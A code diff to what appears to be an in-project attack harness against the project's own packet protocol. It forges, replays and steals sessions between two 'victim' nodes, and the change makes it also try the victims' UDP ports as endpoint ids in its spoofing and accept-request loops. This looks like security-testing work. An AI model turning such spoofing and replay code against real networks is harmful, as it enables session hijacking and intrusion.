@@ -28,7 +28,8 @@
  *     and sends each again unchanged, twice. "spoofed N captured C replayed R".
  *
  * VICTIMS: ADDR0:UDPPORT0 ADDR1:UDPPORT1, the victims' endpoints on node 0 and node 1.
- * EPMAX is 16 (endpoint ids are numbered from 1 by each psid).
+ * The endpoint ids tried are 1..EPMAX (16) and the victims' UDP ports: psid names an
+ * endpoint by its socket's port (older psids numbered them from 1).
  */
 #include "../../rdp/auth.h"
 #include "../../rdp/wire.h"
@@ -52,6 +53,10 @@
 #include <unistd.h>
 
 #define EPMAX  16
+#define NEPIDS (EPMAX + 2)
+
+/* The endpoint ids tried: 1..EPMAX, then the victims' own (their UDP ports). */
+static uint16_t ep_id(int i);
 #define MAXPKT 2048
 
 struct victim {
@@ -60,6 +65,11 @@ struct victim {
 };
 
 static struct victim vic[2];
+
+static uint16_t ep_id(int i)
+{
+    return i < EPMAX ? (uint16_t)(i + 1) : ntohs(vic[i - EPMAX].sa.sin_port);
+}
 static uint8_t pair_key[32], hkey[32];
 static int spoof_fd = -1, own_fd = -1;
 static unsigned long n_sent, n_garbage;
@@ -262,7 +272,8 @@ static void steal(struct psi c[2], const char *listener, const char *a0)
 {
     char what[64];
     for (int n = 0; n < 2; n++)
-        for (uint32_t ep = 1; ep <= EPMAX; ep++) {
+        for (int e = 0; e < NEPIDS; e++) {
+            uint32_t ep = ep_id(e);
             struct psmsg_buf req = {0};
             psmsg_begin(&req, PSM_PL_ACCEPT, 0);
             psmsg_put_u32(&req, PSF_NODE_ID, vic[1 - n].node);
@@ -329,8 +340,9 @@ static void forge_round(void)
     uint8_t pkt[MAXPKT];
     for (int t = 0; t < 2; t++) {
         const struct victim *v = &vic[t], *peer = &vic[1 - t];
-        for (uint16_t sep = 1; sep <= EPMAX; sep++)
-            for (uint16_t dep = 1; dep <= EPMAX; dep++) {
+        for (int se = 0; se < NEPIDS; se++)
+            for (int de = 0; de < NEPIDS; de++) {
+                uint16_t sep = ep_id(se), dep = ep_id(de);
                 struct rdp_hdr h = {.version = RDP_VERSION,
                                     .src_node = peer->node,
                                     .src_ep = sep,
